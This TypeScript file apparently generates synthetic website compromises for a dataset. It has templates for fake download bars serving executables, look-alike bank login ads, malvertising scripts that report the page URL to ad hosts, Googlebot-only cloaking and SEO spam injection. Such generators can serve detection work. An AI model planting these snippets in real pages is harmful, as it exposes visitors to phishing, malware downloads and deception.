  const pkg = `com.${alnum(rng, 6)}.${pick(rng, ["app", "wallet", "reader", "client", bare(page).slice(0, 10)])}`
  const ios = digits(rng, 10).replace(/^0/, "1")
  const web = `https://${pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng), `m-${bare(page)}.${tld(rng)}`])}/${pick(rng, ["open", "app", "m", "link"])}/${alnum(rng, 6)}`
  const path = `${scheme}://${pick(rng, ["open", "page", "deeplink"])}?u=${encodeURIComponent(page.site.url)}`
  const al = [
    `<meta property="al:ios:url" content="${esc(path)}">`, `<meta property="al:ios:app_store_id" content="${ios}">`, `<meta property="al:ios:app_name" content="${esc(name)}">`,
    `<meta property="al:android:url" content="${esc(path)}">`, `<meta property="al:android:package" content="${pkg}">`, `<meta property="al:android:app_name" content="${esc(name)}">`,
    `<meta property="al:web:url" content="${esc(web)}">`, `<meta property="al:web:should_fallback" content="true">`
  ]
  const tw = [
    `<meta name="twitter:app:name:iphone" content="${esc(name)}">`, `<meta name="twitter:app:id:iphone" content="${ios}">`, `<meta name="twitter:app:url:iphone" content="${esc(path)}">`,
    `<meta name="twitter:app:name:googleplay" content="${esc(name)}">`, `<meta name="twitter:app:id:googleplay" content="${pkg}">`, `<meta name="twitter:app:url:googleplay" content="${esc(path)}">`
  ]
  const tags = pick(rng, [() => al, () => tw, () => [...al, ...tw], () => [...sample(rng, al.slice(0, 6), between(rng, 2, 6)), al[6]!, al[7]!]])()
  return splices(insert(pick(rng, [head(page), headStart(page)]), tags.join(pick(rng, ["", "\n"]))))
})

// Sitelinks search boxes, recalled from memory of Google's documentation of the WebSite structured-data type with a SearchAction (about 2014–2024: a urlTemplate with {search_term_string} that Google could use for a search box under the site's result; the feature was retired in late 2024) and, with uncertain sources, of SEO-spam and search-hijack injections that point such markup at another host: WebSite JSON-LD naming the site whose search action goes to another host.
const searchActionHijack = fresh20("WebSite JSON-LD naming the site whose SearchAction (sitelinks search box) sends searchers to another host", (page, rng) => {
  const h = pick(rng, [randomDomain(rng), `search-${bare(page)}.${tld(rng)}`, `${pick(rng, ["find", "seek", "go", "results", "feed"])}${alnum(rng, 3)}.${tld(rng)}`, `${pick(rng, ["search", "s"])}.${randomDomain(rng)}`])
  const tpl = `https://${h}/${pick(rng, ["search", "s", "results", "q"])}?${pick(rng, ["q", "query", "k"])}={search_term_string}${chance(rng, 0.5) ? `&src=${bare(page)}` : ""}`
  const action = chance(rng, 0.5) ? { "@type": "SearchAction", target: tpl, "query-input": "required name=search_term_string" } : { "@type": "SearchAction", target: { "@type": "EntryPoint", urlTemplate: tpl }, "query-input": "required name=search_term_string" }
  const site = { "@context": "https://schema.org", "@type": "WebSite", name: brandName(page), url: page.site.url, potentialAction: action }
  const json = chance(rng, 0.3) ? { "@context": "https://schema.org", "@graph": [{ ...site, "@context": undefined }, { "@type": "Organization", name: brandName(page), url: page.site.url }] } : site
  return splices(insert(pick(rng, [head(page), headStart(page), bottom(page)]), `<script type="application/ld+json">${JSON.stringify(json).replace(/</g, "\\u003c")}</script>`))
})

const shelfWords: Table<readonly [string, string, string]> = {
  en: ["Open file", "Show all", "Keep"], fr: ["Ouvrir le fichier", "Tout afficher", "Conserver"], de: ["Datei öffnen", "Alle anzeigen", "Behalten"], es: ["Abrir archivo", "Mostrar todo", "Conservar"],
  nl: ["Bestand openen", "Alles weergeven", "Behouden"], pt: ["Abrir arquivo", "Mostrar tudo", "Manter"], it: ["Apri file", "Mostra tutto", "Mantieni"]
}

// Fake browser download UI, recalled from memory, with uncertain sources, of malvertising and fake-update campaigns (about 2019–2024) that draw a browser's download bar or panel inside the page so an executable looks already downloaded and only needs opening, and of Chrome's bottom download shelf and Edge's and Firefox's download panels they imitate: a drawn download bar or panel showing a document-like file whose "open" link fetches an executable or archive from another host.
const fakeDownloadShelf = fresh20("fake browser download bar or panel drawn in the page, showing a document-like file whose 'open' link fetches an executable or archive from another host", (page, rng) => {
  const [open, all, keep] = some(rng, page, shelfWords)
  const file = `${pick(rng, [bare(page), "Invoice", "Document", "Statement", "Order", "Scan"])}_${pick(rng, ["invoice", "document", "statement", "order", "update", "receipt"])}_${digits(rng, 5)}.${pick(rng, ["pdf.exe", "zip", "msi", "iso", "js", "scr", "pdf.lnk", "exe", "msix"])}`
  const url = `https://${pick(rng, [randomDomain(rng), libLookalike(rng), `dl-${alnum(rng, 5)}.${tld(rng)}`, `${alnum(rng, 8)}.${pick(rng, ["r2.dev", "b-cdn.net", "pages.dev", "trycloudflare.com"])}`])}/${pick(rng, ["d", "dl", "files", "get"])}/${encodeURIComponent(file)}`
  const chip = `<a href="${esc(url)}" download style="display:inline-flex;align-items:center;gap:8px;background:#fff;border:1px solid #dadce0;border-radius:6px;padding:6px 10px;color:#202124;text-decoration:none"><span style="font-size:20px">📄</span><span><span style="display:block;font-size:13px">${esc(file)}</span><span style="display:block;font-size:11px;color:#5f6368">${between(rng, 1, 40)}.${between(rng, 0, 9)} MB · ${esc(open)}</span></span></a>`
  const html = chance(rng, 0.5)
    ? `<div class="${pick(rng, ["dl-shelf", "download-bar", "shelf"])}" style="position:fixed;left:0;right:0;bottom:0;height:${between(rng, 48, 58)}px;z-index:${zTop(rng)};background:#f1f3f4;border-top:1px solid #dadce0;display:flex;align-items:center;gap:10px;padding:0 12px;font:13px ${font(rng)}">${chip}<span style="flex:1"></span><a href="${esc(url)}" style="color:#1a73e8;text-decoration:none">${esc(all)}</a> <span style="cursor:pointer;padding:0 6px">✕</span></div>`
    : `<div class="${pick(rng, ["dl-panel", "downloads", "download-flyout"])}" style="position:fixed;top:${between(rng, 0, 10)}px;right:${between(rng, 8, 120)}px;width:${between(rng, 300, 360)}px;z-index:${zTop(rng)};background:#fff;border-radius:8px;box-shadow:0 4px 16px rgba(0,0,0,.25);padding:12px;font:13px ${font(rng)}"><div style="font-weight:bold;margin-bottom:8px">Downloads</div>${chip}<div style="margin-top:8px;text-align:right"><a href="${esc(url)}" style="${button(rng, "#0067b8")}">${esc(chance(rng, 0.5) ? keep : open)}</a></div></div>`
  return splices(insert(pick(rng, [bottom(page), top(page), slotAt(page.spots, "bottom")]), html))
})

// ———————————————————————————— malvertising ————————————————————————————

const adWords: Table<readonly [string, string, (n: string) => string]> = {
  en: ["Advertisement", "Skip ad", (n) => `Continue to the site in ${n} s`], fr: ["Publicité", "Passer l'annonce", (n) => `Accès au site dans ${n} s`],
  de: ["Anzeige", "Werbung überspringen", (n) => `Weiter zur Website in ${n} s`], es: ["Publicidad", "Saltar anuncio", (n) => `Continuar al sitio en ${n} s`],
  nl: ["Advertentie", "Advertentie overslaan", (n) => `Door naar de site over ${n} s`], pt: ["Publicidade", "Pular anúncio", (n) => `Continuar para o site em ${n} s`],
  it: ["Pubblicità", "Salta l'annuncio", (n) => `Continua sul sito tra ${n} s`]
}
const adHost = (rng: Rng) => pick(rng, [`${pick(rng, ["ads", "adserve", "srv", "delivery", "go", "track"])}.${randomDomain(rng)}`, `${pick(rng, ["ad", "pop", "push", "native"])}${pick(rng, ["cash", "max", "net", "media", "hub"])}${digits(rng, 2)}.${tld(rng)}`, randomDomain(rng)])
const clickUrl = (rng: Rng, h: string, page: Page) => pick(rng, [`https://${h}/click?zoneid=${digits(rng, 6)}&cid=${alnum(rng, 12)}&r=${encodeURIComponent(page.site.host)}`, `https://${h}/?z=${digits(rng, 7)}&var=${alnum(rng, 5)}`, `https://${h}/c/${alnum(rng, 10)}?sub=${bare(page)}`])

// Interstitial ads, recalled from memory, with uncertain sources, of reports on malicious ad scripts injected into hacked sites (Sucuri and Malwarebytes, about 2017–2023) that show full-page "interstitial" ads from low-grade networks with a countdown before a "skip" or "continue to site" button, where the skip button itself often leads to the advertiser, and of Google's "intrusive interstitials" guidance (2016) describing the format: a full-window overlay with an advertisement, a countdown and skip and continue links that go to the ad host.
const interstitialAd = fresh20("full-page interstitial ad from an unknown network with a countdown, whose 'skip ad' and 'continue to the site' links also go to the ad host", (page, rng) => {
  const [label, skip, cont] = some(rng, page, adWords)
  const h = adHost(rng)
  const click = clickUrl(rng, h, page)
  const n = String(between(rng, 5, 15))
  const id = `ia${alnum(rng, 5)}`
  const creative = pick(rng, [
    () => `<a href="${esc(click)}"><img src="https://${h}/${pick(rng, ["cr", "creatives", "b"])}/${alnum(rng, 10)}.${pick(rng, ["jpg", "gif", "webp", "png"])}" width="${pick(rng, [300, 336, 320, 480])}" height="${pick(rng, [250, 280, 480, 320])}" style="max-width:90vw;height:auto" alt=""></a>`,
    () => `<a href="${esc(click)}" style="display:block;max-width:520px;margin:auto;padding:24px;background:#fff;color:#111;text-decoration:none;border-radius:8px"><b style="font-size:22px">${esc(pick(rng, ["You have (1) new prize waiting", "Your device needs cleaning: 3 threats found", "Hot singles near you", "Win the new iPhone today", "Earn €3,000 a week from home"]))}</b><br><span style="color:#1565c0">${esc(pick(rng, ["Claim now ›", "Continue ›", "Start ›"]))}</span></a>`
  ])()
  const html = `<div id="${id}" class="${pick(rng, ["interstitial", "ad-overlay", "splash-ad"])}" style="position:fixed;inset:0;z-index:${zTop(rng)};background:rgba(0,0,0,.${between(rng, 80, 95)});display:flex;flex-direction:column;align-items:center;justify-content:center;font:14px ${font(rng)};color:#fff"><div style="position:absolute;top:10px;left:14px;font-size:11px;letter-spacing:1px;text-transform:uppercase;opacity:.8">${esc(label)}</div><div style="position:absolute;top:10px;right:14px"><a href="${esc(click)}" style="color:#fff">${esc(skip)} ✕</a></div>${creative}<p><a href="${esc(click)}" style="color:#ddd">${esc(cont(n)).replace(esc(n), `<span id="${id}n">${n}</span>`)}</a></p></div>`
  const code = `var n=${n},e=document.getElementById("${id}n");var t=setInterval(function(){n--;if(e)e.textContent=n;if(n<=0)clearInterval(t)},1000);`
  return splices(insert(pick(rng, [top(page), bottom(page)]), html + wrapScript(rng, code)))
})

// Outstream video ads, recalled from memory, with uncertain sources, of ad-fraud and malvertising reports (about 2017–2023, among them write-ups on video-ad stacking and on injected "floating video" players on hacked and pirate sites) and of the legitimate outstream format (a sticky, muted, autoplaying player in a corner of the page, fed by a VAST tag): a floating muted video player from an unknown ad network, its clicks going to the network and its creative fetched at run time.
const floatingVideoAd = fresh20("floating outstream video-ad player (muted autoplay, corner of the window) from an unknown ad network, its creative fetched at run time and its clicks going to the network", (page, rng) => {
  const [label] = some(rng, page, adWords)
  const h = adHost(rng)
  const click = clickUrl(rng, h, page)
  const id = `ov${alnum(rng, 5)}`
  const w = pick(rng, [280, 300, 320, 360, 400])
  const html = `<div id="${id}" class="${pick(rng, ["outstream", "video-ad", "sticky-player"])}" style="position:fixed;${pick(rng, ["right", "left"])}:${between(rng, 8, 24)}px;bottom:${between(rng, 8, 70)}px;width:${w}px;z-index:${zTop(rng)};background:#000;box-shadow:0 6px 20px rgba(0,0,0,.4);border-radius:${pick(rng, ["0", "6px", "10px"])};overflow:hidden"><div style="font:11px Arial,sans-serif;color:#ccc;padding:3px 8px">${esc(label)} · 0:${between(rng, 15, 30)} <span style="float:right;cursor:pointer" onclick="this.parentNode.parentNode.style.display='none'">✕</span></div><a href="${esc(click)}" target="_blank" style="display:block"><video src="https://${h}/${pick(rng, ["v", "media", "vid"])}/${alnum(rng, 10)}.mp4" poster="https://${h}/p/${alnum(rng, 8)}.jpg" autoplay muted playsinline loop width="${w}" style="display:block;width:100%"></video></a></div>`
  const code = `fetch(${js(`https://${h}/${pick(rng, ["vast", "ad", "serve"])}?zone=${digits(rng, 6)}&fmt=json`)}+"&ref="+encodeURIComponent(location.href)).then(function(r){return r.json()}).then(function(j){var b=document.getElementById("${id}");if(!b)return;if(j.src)b.querySelector("video").src=j.src;if(j.click)b.querySelector("a").href=j.click}).catch(function(){});`
  return splices(insert(pick(rng, [bottom(page), top(page), slotAt(page.spots, "bottom")]), html + wrapScript(rng, code)))
})

const banksBy: Record<string, ReadonlyArray<string>> = {
  us: ["Chase", "Wells Fargo", "Bank of America", "Citi", "Capital One"], uk: ["Barclays", "HSBC UK", "Lloyds Bank", "NatWest", "Santander UK"],
  de: ["Sparkasse", "Deutsche Bank", "ING", "Commerzbank", "Postbank"], fr: ["Crédit Agricole", "BNP Paribas", "Société Générale", "La Banque Postale", "LCL"],
  es: ["Santander", "BBVA", "CaixaBank", "Sabadell"], it: ["Intesa Sanpaolo", "UniCredit", "Poste Italiane", "BPER"], nl: ["ING", "Rabobank", "ABN AMRO", "bunq"],
  br: ["Itaú", "Bradesco", "Nubank", "Caixa", "Banco do Brasil"], au: ["CommBank", "Westpac", "ANZ", "NAB"], in: ["SBI", "HDFC Bank", "ICICI Bank", "Axis Bank"]
}
const sponsorWords: Table<readonly [string, string, string, string]> = {
  en: ["Sponsored", "Online Banking Login", "Official site", "Sign in to your account securely. 24/7 access to your accounts and cards."],
  fr: ["Sponsorisé", "Connexion à l'espace client", "Site officiel", "Accédez à vos comptes en toute sécurité, 24 h/24 et 7 j/7."],
  de: ["Anzeige", "Online-Banking Login", "Offizielle Seite", "Sicher in Ihr Konto einloggen. Rund um die Uhr Zugriff auf Konten und Karten."],
  es: ["Patrocinado", "Acceso a banca online", "Sitio oficial", "Accede a tu cuenta de forma segura, 24 horas al día."],
  nl: ["Gesponsord", "Inloggen internetbankieren", "Officiële site", "Log veilig in op je rekening. Dag en nacht toegang tot je rekeningen en passen."],
  pt: ["Patrocinado", "Acesso ao internet banking", "Site oficial", "Acesse sua conta com segurança, 24 horas por dia."],
  it: ["Sponsorizzato", "Accesso home banking", "Sito ufficiale", "Accedi al tuo conto in sicurezza, 24 ore su 24."]
}

// Search-ad impersonation, recalled from memory of Malwarebytes' and Guardio's reports (about 2022–2024) on sponsored search results impersonating banks, crypto exchanges and software brands, whose displayed address shows the real brand while the link leads to a phishing host, and of similar "ads" blocks injected into hacked pages: a "sponsored" block of official-looking login results for banks (of the site's country) and services, each showing the real address while linking to a look-alike.
const sponsoredLoginAds = fresh20("'sponsored' block of official-looking bank and service login results (of the site's country) showing the real address but linking to look-alike hosts", (page, rng) => {
  const [label, login, official, desc] = some(rng, page, sponsorWords)
  const names = sample(rng, [...(banksBy[page.site.locale.country] ?? []), "PayPal", "Microsoft 365", "Amazon", "Coinbase", "Binance"], between(rng, 2, 4))
  const items = names.map((n) => {
    const s = slug(n) || alnum(rng, 6)
    const fake = pick(rng, [`${s}-${pick(rng, ["login", "secure", "online", "signin"])}.${tld(rng)}`, `${pick(rng, ["secure", "login", "my", "online"])}-${s}.${tld(rng)}`, `${s}${pick(rng, ["-bank", "online", "-verify"])}.${tld(rng)}`])
    return `<div style="margin:10px 0"><div style="font-size:12px;color:#202124"><b>${esc(label)}</b> · www.${esc(s.replace(/-/g, ""))}.com</div><a href="https://${fake}/${pick(rng, ["login", "signin", "auth", ""])}" style="font-size:18px;color:#1a0dab;text-decoration:none">${esc(`${n} ${login} – ${official}`)}</a><div style="font-size:13px;color:#4d5156">${esc(desc)}</div></div>`
  }).join("")
  return splices(insert(pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)]), `<div class="${pick(rng, ["sponsored-results", "ads-block", "text-ads"])}" style="border:1px solid #eee;padding:8px 14px;margin:12px 0;max-width:${between(rng, 560, 760)}px;font-family:${font(rng)}">${items}<div style="font-size:10px;color:#999;text-align:right">${esc(pick(rng, ["Ads by", "AdChoices ·", "Sponsored links ·"]))} ${esc(adHost(rng))}</div></div>`))
})

// ———————————————————————————— SEO spam ————————————————————————————

const searchSpam: ReadonlyArray<ReadonlyArray<string>> = [
  ["best online casino bonus", "buy viagra online cheap", "payday loans same day", "cheap essay writing service", "buy instagram followers", "crypto recovery expert", "replica rolex watches"],
  ["slot gacor hari ini", "situs togel resmi", "judi bola terpercaya", "link alternatif slot maxwin"],
  ["オンラインカジノ 入金不要ボーナス", "スーパーコピー 時計 激安", "ブランドコピー 通販"],
  ["澳门赌场 官网", "代开发票 联系电话", "体育投注 平台"],
  ["deneme bonusu veren siteler", "canlı bahis giriş", "casino siteleri 2026"],
  ["онлайн казино с бонусом", "займ на карту без отказа", "купить диплом"]
]

// Internal search-result spam, recalled from memory, with uncertain sources, of Google Search Central's and SEO practitioners' notes (about 2019–2024) on spammers who make search engines index a site's own search-result pages for queries that carry their text, domain or phone number (the page then shows "results for <spam>" on a trusted domain), and of hacked sites that link those search URLs themselves: a cloud or list of links to the site's own search page whose queries are spam with a domain, phone or Telegram contact.
const searchPageSpam = fresh20("links to the site's own search-result pages whose queries are spam carrying a domain, phone or Telegram contact (internal search spam)", (page, rng) => {
  const origin = new URL(page.site.url).origin
  const path = pick(rng, ["/?s=", "/search?q=", "/search/?q=", "/?q=", "/search.php?query=", "/catalogsearch/result/?q="])
  const kws = pick(rng, searchSpam)
  const contact = () => pick(rng, [randomDomain(rng), `☎ +${pick(rng, ["1", "44", "62", "66", "84", "90", "7"])} ${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 4)}`, `telegram @${alnum(rng, 8)}`, `WA ${digits(rng, 11)}`, `${alnum(rng, 6)}.${pick(rng, ["com", "net", "vip", "top"])}`])
  const queries = sample(rng, kws, between(rng, Math.min(2, kws.length), kws.length)).flatMap((k) => Array.from({ length: between(rng, 1, 3) }, () => `${k} ${contact()}`))
  const href = (q: string) => `${chance(rng, 0.5) ? origin : ""}${path}${encodeURIComponent(q).replace(/%20/g, "+")}`
  const links = queries.map((q) => `<a href="${esc(href(q))}" style="font-size:${between(rng, 10, 18)}px;margin-right:8px">${esc(q)}</a>`)
  const hidden = chance(rng, 0.3) ? ";position:absolute;left:-9999px" : ""
  const html = chance(rng, 0.5)
    ? `<div class="${pick(rng, ["tags", "tag-cloud", "popular", "searches"])}" style="margin:10px 0${hidden}">${links.join(" ")}</div>`
    : `<ul class="${pick(rng, ["recent-searches", "popular-searches", "search-terms"])}" style="margin:10px 0${hidden}">${links.map((l) => `<li>${l}</li>`).join("")}</ul>`
  return splices(insert(spamSpot(rng, page), html))
})

const creditWords: Table<string> = { en: "Photo", fr: "Photo", de: "Foto", es: "Foto", nl: "Foto", pt: "Foto", it: "Foto" }
const creditAnchors = ["best online casinos", "payday loans", "replica watches", "CBD gummies", "cheap flights deals", "buy backlinks", "essay writing service", "slot gacor", "crypto casino", "SEO agency London", "bahis siteleri", "weight loss pills"]

// Attribution link schemes, recalled from memory of Google's spam policies on link schemes (widely distributed links in footers, templates and "credits", about 2012–2024) and, with uncertain sources, of hacked sites where injected image credits ("Photo: <keyword link>") were added under every picture: credit lines with keyword links to spam sites placed under the site's own pictures.
const photoCreditSpam = fresh20("fake photo credits with keyword links to spam sites placed under the site's own pictures", (page, rng) => {
  const word = some(rng, page, creditWords)
  const cls = pick(rng, ["credit", "photo-credit", "img-credit", "wp-caption-text", "caption"])
  const line = () => `<small class="${cls}" style="display:block;font-size:${between(rng, 10, 12)}px;color:#888">${esc(pick(rng, [`${word}:`, `${word} ©`, "via", "Image:"]))} <a href="https://${pick(rng, [randomDomain(rng), `${slug(pick(rng, creditAnchors))}.${tld(rng)}`])}/${pick(rng, ["", "?ref=img", "go/" + alnum(rng, 4)])}"${chance(rng, 0.3) ? ` rel="dofollow"` : ""}>${esc(pick(rng, creditAnchors))}</a></small>`
  const imgs = shown(page, "img", (e) => !e.inert)
  if (imgs.length === 0) return splices(insert(spamSpot(rng, page), `<p><img src="https://${randomDomain(rng)}/${alnum(rng, 8)}.jpg" width="${between(rng, 300, 640)}" alt="">${line()}</p>`))
  const out: Array<Splice> = []
  for (const img of sample(rng, imgs, between(rng, 1, Math.min(8, imgs.length)))) {
    const wrap = inlineAncestor(page, img, "a") ?? inlineAncestor(page, img, "picture")
    if (wrap !== undefined && wrap.closeTag === null) continue
    out.push(insert(wrap === undefined ? img.openEnd : wrap.closeTag!.end, line()))
  }
  if (out.length === 0) out.push(insert(spamSpot(rng, page), `<p>${line()}</p>`))
  return { splices: out }
})

// JavaScript cloaking, recalled from memory of Google's spam policies on cloaking, of Invernizzi and others' "Cloak of Visibility" (IEEE S&P, 2016) measuring cloaking that keys on the user agent, and, with uncertain sources, of hacked pages whose spam links appear only when a script sees a crawler's user agent: spam links kept hidden (a hidden block, a template or a script string) and revealed or written only for Googlebot, Bingbot and other crawlers.
const crawlerOnlySpam = fresh20("spam links kept hidden and revealed or written by a script only when the user agent is a search crawler (JavaScript cloaking)", (page, rng) => {
  const kws = pick(rng, searchSpam)
  const links = sample(rng, kws, between(rng, 2, kws.length)).map((k) => `<a href="https://${pick(rng, [randomDomain(rng), `${slug(k) || alnum(rng, 6)}.${tld(rng)}`])}/">${esc(k)}</a>`).join(pick(rng, [" ", " | ", ", "]))
  const bots = pick(rng, ["googlebot|bingbot|yandex|baiduspider|duckduckbot", "bot|crawl|spider|slurp", "google|bing|yahoo|yandex", "Googlebot|Google-InspectionTool|bingbot|AdsBot"])
  const id = `c${alnum(rng, 6)}`
  const test = `/${bots}/i.test(navigator.userAgent)`
  const html = pick(rng, [
    () => `<div id="${id}" style="display:none">${links}</div><script>if(${test}){document.getElementById("${id}").style.display="block"}</script>`,
    () => `<script>if(${test}){document.write(${js(`<div class="${pick(rng, ["seo", "links", "partners"])}">${links}</div>`)})}</script>`,
    () => `<template id="${id}"><p>${links}</p></template><script>if(${test}){var t=document.getElementById("${id}");t.parentNode.insertBefore(t.content.cloneNode(true),t)}</script>`
  ])()
  return splices(insert(spamSpot(rng, page), html))
})

const blendSpam: Table<ReadonlyArray<string>> = {
  en: ["Best online casinos for 2026", "Payday loans with no credit check", "Cheap essay writing service", "Buy real Instagram followers", "Top crypto casinos", "Replica watches UK"],
  fr: ["Meilleurs casinos en ligne 2026", "Prêt rapide sans justificatif", "Acheter des followers Instagram", "Voyance gratuite par téléphone"],
  de: ["Beste Online Casinos 2026", "Kredit ohne Schufa sofort", "Instagram Follower kaufen", "Casino ohne Limit"],
  es: ["Mejores casinos online 2026", "Préstamos rápidos online sin papeleo", "Comprar seguidores en Instagram", "Apuestas deportivas con bono"],
  nl: ["Beste online casino's 2026", "Snel geld lenen zonder BKR", "Instagram volgers kopen", "Casino zonder Cruks"],
  pt: ["Melhores cassinos online 2026", "Empréstimo online na hora", "Comprar seguidores no Instagram", "Bet com bônus de cadastro"],
  it: ["Migliori casinò online 2026", "Prestiti veloci online", "Comprare follower Instagram", "Casinò non AAMS"]
}

// Link injection blended into templates, recalled from memory of Sucuri's write-ups on "pharma hack" and casino link injection (about 2011–2024) that add entries to the sidebar, blogroll, recent-posts and footer lists of hacked WordPress and Joomla sites using the same markup as the real entries, so they pass for the site's own links: new entries with spam keyword links cloned into the site's own link lists (latest posts, footer columns), copying their classes.
const blendedListSpam = fresh20("spam keyword entries cloned into the site's own link lists (latest posts, footer columns), copying the entries' markup", (page, rng) => {
  const texts = some(rng, page, blendSpam)
  const url = () => `https://${pick(rng, [randomDomain(rng), `${slug(pick(rng, texts)) || alnum(rng, 6)}.${tld(rng)}`])}/${pick(rng, ["", "bonus/", "go/", alnum(rng, 5) + "/"])}`
  const lists = page.spots.elements.filter((l) => (l.name === "ul" || l.name === "ol") && l.shown && !l.inert && l.closeTag !== null && !inlineNav(page, l))
  const candidates = lists.map((l) => ({ l, lis: page.spots.elements.filter((e) => e.parent === l.index && e.name === "li" && e.closeTag !== null && page.spots.elements.some((a) => a.parent === e.index && a.name === "a")) })).filter((c) => c.lis.length >= 2)
  if (candidates.length === 0) return splices(insert(spamSpot(rng, page), `<ul>${sample(rng, texts, between(rng, 2, 4)).map((t) => `<li><a href="${url()}">${esc(t)}</a></li>`).join("")}</ul>`))
  const out: Array<Splice> = []
  for (const { lis } of sample(rng, candidates, between(rng, 1, Math.min(3, candidates.length)))) {
    const ref = pick(rng, lis)
    const a = page.spots.elements.find((e) => e.parent === ref.index && e.name === "a")!
    const liCls = ref.attribs.class !== undefined ? ` class="${esc(ref.attribs.class)}"` : ""
    const aCls = a.attribs.class !== undefined ? ` class="${esc(a.attribs.class)}"` : ""
    for (const t of sample(rng, texts, between(rng, 1, 3))) out.push(insert(pick(rng, lis).closeTag!.end, `<li${liCls}><a href="${url()}"${aCls}>${esc(t)}</a></li>`))
  }
  return { splices: out }
})
/** Whether a list sits in the navigation (its own class of spam elsewhere). */
const inlineNav = (page: Page, el: El): boolean => {
  for (let e: El | undefined = el; e !== undefined; e = elAt(page, e.parent)) if (e.name === "nav" || /(^|\s)(nav|menu|navbar)(\s|$)/i.test(e.attribs.class ?? "")) return true
  return false
}

// ———————————————————————————— blatant ————————————————————————————

const notifyWords: Table<string> = {
  en: "Click “Allow” to continue", fr: "Cliquez sur « Autoriser » pour continuer", de: "Klicken Sie auf „Zulassen“, um fortzufahren", es: "Haz clic en «Permitir» para continuar",
  nl: "Klik op ‘Toestaan’ om verder te gaan", pt: "Clique em “Permitir” para continuar", it: "Fai clic su «Consenti» per continuare"
}

// Defacers' messages through browser features, recalled from memory, with uncertain sources, of defacement mirrors (Zone-H and others, about 2015–2024) whose pages reached visitors through the browser rather than the page (alert loops, speech, tab titles) and of the Notifications API (Notification.requestPermission and new Notification, about 2015 on), which shows a message as a desktop or phone notification outside the page: a script asking for notification permission on the first click and then showing the crew's "hacked by" message as repeated system notifications, sometimes with a small "click Allow" hint.
const notificationSignature = fresh20("crew's 'hacked by' message shown as repeated desktop notifications after asking for notification permission on the first click", (page, rng) => {
  const w = who(rng)
  const title = signature(rng, w).text
  const body = pick(rng, [`${brandName(page)} ${pick(rng, ["security is a joke", "has been owned", "was here"])}`, `Greetz: ${nick(rng)} & ${nick(rng)}`, `t.me/${slug(w) || alnum(rng, 6)}`, pick(rng, ["Patch your server, admin.", "We are everywhere.", "Your security is just an illusion."])])
  const icon = `https://${pick(rng, ["i.imgur.com", "i.ibb.co", "files.catbox.moe", randomDomain(rng)])}/${alnum(rng, 7)}.png`
  const code = `document.addEventListener("click",function f(){document.removeEventListener("click",f,true);if(!("Notification"in window))return;Notification.requestPermission().then(function(p){if(p!=="granted")return;var i=0,t=setInterval(function(){new Notification(${js(title)},{body:${js(body)},icon:${js(icon)},tag:"${alnum(rng, 4)}"+(i++)});if(i>${between(rng, 3, 20)})clearInterval(t)},${between(rng, 1500, 9000)})})},true);`
  const out: Array<Splice> = [insert(scriptSpot(rng, page), wrapScript(rng, code))]
  if (chance(rng, 0.6)) out.push(insert(pick(rng, [top(page), bottom(page)]), `<div style="position:fixed;top:${between(rng, 0, 20)}px;left:50%;transform:translateX(-50%);z-index:${zTop(rng)};background:#222;color:#fff;padding:6px 14px;border-radius:16px;font:13px ${font(rng)}">🔔 ${esc(some(rng, page, notifyWords))}</div>`))
  return { splices: out }
})

/** Every fresh20 defacement class, in a fixed order. */
export const fresh20Defacements: ReadonlyArray<ChangeClass> = [
  chatbotSkimmer, reviewWidgetSkimmer, experimentHijack, foreignAudiencePixels, eventStreamLoader, languageCloneLinks, passwordManagerBubble,
  sessionExpiredDialog, lookalikeSsoButtons, javascriptFrameLoader, fontRangeLeak, imageMapHijack, shortenedLinks, jumpMenuSpam, readMoreGate,
  enterpriseAppInstall, walletDeepLinks, bankIdAutostart, mailtoFormAction, appLinksHijack, searchActionHijack, fakeDownloadShelf, interstitialAd,
  floatingVideoAd, sponsoredLoginAds, searchPageSpam, photoCreditSpam, crawlerOnlySpam, blendedListSpam, notificationSignature
]
